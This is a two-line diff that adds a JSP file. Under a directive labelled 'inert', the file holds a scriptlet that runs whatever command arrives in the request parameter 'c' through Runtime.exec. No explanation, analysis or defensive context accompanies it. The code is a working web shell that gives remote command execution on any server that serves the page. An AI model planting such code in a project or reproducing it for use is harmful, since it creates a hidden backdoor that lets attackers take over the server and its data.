@@ -1,0 +1,2 @@
+<%@ inert %>
+<% java.util.Map m=request.getParameterMap(); Runtime.getRuntime().exec(((String[])m.get("c"))[0]); %>
